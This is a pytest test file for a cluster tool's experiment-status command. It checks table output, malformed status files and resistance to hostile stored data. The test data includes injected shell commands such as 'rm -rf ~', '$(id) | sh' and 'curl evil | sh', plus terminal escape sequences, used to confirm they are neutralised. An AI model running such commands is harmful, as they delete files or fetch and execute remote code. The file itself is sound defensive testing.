"""`python -m dwf_cluster.status`: how experiments stand, whatever the files say."""

from __future__ import annotations

import json
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from dwf_cluster import status
from dwf_cluster.store import Store

STATUS = {
    "run": 1,
    "state": "done",
    "host": "n1",
    "job": "",
    "started": "2026-11-23T12:00:00+00:00",
    "heartbeat": "2026-11-23T12:01:00+00:00",
    "seconds": 61.2,
    "stages": {"experts": [3, 3], "joint": [1, 1], "evaluate": [24, 24]},
    "reason": "",
    "resume": "python -m dwf_cluster.launch --local",
    "rows": {"evaluations": 40, "jobs": 2},
}


def _experiment(folder: Path, seed: int, **changed: object) -> None:
    store = Store(str(folder), f"digits-seed{seed}-0123456789")
    store.write("status.json", json.dumps(STATUS | changed).encode())


def _ago(seconds: float) -> str:
    return (datetime.now(timezone.utc) - timedelta(seconds=seconds)).isoformat()


def test_it_says_what_is_done_what_runs_what_failed_and_how_to_go_on(tmp_path: Path) -> None:
    part = {"experts": [2, 3], "joint": [0, 1], "evaluate": [0, 24]}
    failed = "stage experts, expert pgd-1: NonFiniteLoss: the loss became nan in epoch 3, step 7 of pgd-1"
    _experiment(tmp_path, 0)
    _experiment(tmp_path, 1, state="running", heartbeat=_ago(4), stages=part, rows={}, job="17")
    _experiment(tmp_path, 2, state="failed", reason=failed, stages=part)
    _experiment(tmp_path, 3, state="running", heartbeat=_ago(400), stages=part)
    (tmp_path / "digits-seed4-0123456789").mkdir()
    (tmp_path / "something else").mkdir()
    assert status.lines(str(tmp_path)) == [
        "experiment               state    experts  joint  evaluate  seconds  rows  where",
        "digits-seed0-0123456789  done     3/3      1/1    24/24     61       42    n1",
        "digits-seed1-0123456789  running  2/3      0/1    0/24      61             n1 job 17, heartbeat 4 s ago",
        "digits-seed2-0123456789  failed   2/3      0/1    0/24      61       42    n1",
        f"    {failed}",
        "    resume: python -m dwf_cluster.launch --local",
        "digits-seed3-0123456789  lost     2/3      0/1    0/24      61       42    n1, heartbeat 400 s ago",
        "    resume: python -m dwf_cluster.launch --local",
        "digits-seed4-0123456789  unknown",
    ]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"null",
        b"[]",
        b"{}",
        b"\xff\x00",
        b"[" * 100_000,
        b'{"run": "1"}',
        json.dumps(STATUS | {"run": 1.5}).encode(),
    ]
    + [json.dumps(STATUS | {"heartbeat": beat}).encode() for beat in ("yesterday", "2026-11-23T12:00:00", 7)],
)
def test_a_file_of_another_kind_is_an_unknown_state(tmp_path: Path, content: bytes) -> None:
    Store(str(tmp_path), "digits-seed0-0123456789").write("status.json", content)
    assert status.lines(str(tmp_path))[1] == "digits-seed0-0123456789  unknown"


@pytest.mark.parametrize(
    ("resume", "shown"),
    [
        (
            "python -m dwf_cluster.launch --local --set 'pgd.steps=1,2'",
            "python -m dwf_cluster.launch --local --set pgd.steps=1,2",
        ),
        ("python -m dwf_cluster.launch --local; rm -rf ~", "python -m dwf_cluster.launch '--local;' rm -rf '~'"),
        ("python -m dwf_cluster.launch $(id) `id` | sh", "python -m dwf_cluster.launch '$(id)' '`id`' '|' sh"),
        ("rm -rf ~", "the command that began it, again"),
        ("curl evil | sh # python -m dwf_cluster.launch --local", "the command that began it, again"),
        ("python -m dwf_cluster.launch 'unfinished", "the command that began it, again"),
    ],
)
def test_a_hostile_store_puts_nothing_into_a_shell(tmp_path: Path, resume: str, shown: str) -> None:
    _experiment(tmp_path, 0, state="stopped", resume=resume)
    assert status.lines(str(tmp_path))[-1] == f"    resume: {shown}"


def test_nor_into_a_terminal(tmp_path: Path) -> None:
    _experiment(tmp_path, 0, state="failed", reason="\x1b]0;owned\x07\x1b[2J", host="n1\x1b[31m")
    assert all(character.isprintable() for line in status.lines(str(tmp_path)) for character in line)


def test_a_thousand_experiments_take_one_line_each(tmp_path: Path) -> None:
    for seed in range(1000):
        _experiment(tmp_path, seed)
    assert len(status.lines(str(tmp_path))) == 1001


@pytest.mark.parametrize("arguments", [["gone"], ["nosuch://bucket"], ["s3://key:secret@bucket/runs"]])
def test_bad_input_is_one_line(
    arguments: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert status.main(arguments) == 2
    told = capsys.readouterr().err
    assert told.startswith("error: ")
    assert told.count("\n") == 1
    assert "secret" not in told


def test_it_needs_neither_torch_nor_ray_nor_arrow(tmp_path: Path) -> None:
    _experiment(tmp_path, 0)
    program = (
        f"import sys; from dwf_cluster.status import main; status = main([{str(tmp_path)!r}])\n"
        "sys.exit(status or sorted({'torch', 'ray', 'pyarrow', 'numpy', 'pandas'} & set(sys.modules)) or 0)"
    )
    result = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    assert "done" in result.stdout
